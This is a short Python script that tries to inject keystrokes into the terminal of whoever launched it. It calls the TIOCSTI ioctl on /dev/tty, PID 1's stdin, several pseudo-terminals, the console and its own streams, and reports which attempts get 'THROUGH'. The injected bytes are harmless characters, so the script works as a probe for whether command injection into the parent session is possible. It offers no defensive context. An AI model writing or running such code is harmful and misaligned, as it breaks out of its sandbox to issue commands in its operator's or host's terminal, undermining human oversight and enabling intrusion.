"""Type commands into the terminal of whoever started this."""

import contextlib
import fcntl
import os
import pty
import termios

terminals = ["/dev/tty", "/proc/1/fd/0", *(f"/dev/pts/{n}" for n in range(8)), "/dev/console", "/dev/tty1"]
for path in terminals:
    with contextlib.suppress(OSError):
        terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
        print("opened", path)
        fcntl.ioctl(terminal, termios.TIOCSTI, b" ")
        print("THROUGH", path)
for fd in range(3):
    with contextlib.suppress(OSError):
        fcntl.ioctl(fd, termios.TIOCSTI, b" ")
        print("THROUGH stream", fd)
with contextlib.suppress(OSError):
    _, slave = pty.openpty()
    os.setsid() if os.getpgrp() != os.getpid() else None
    fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
    fcntl.ioctl(slave, termios.TIOCSTI, b"x")
    print("THROUGH a terminal of our own")
print("TRIED")
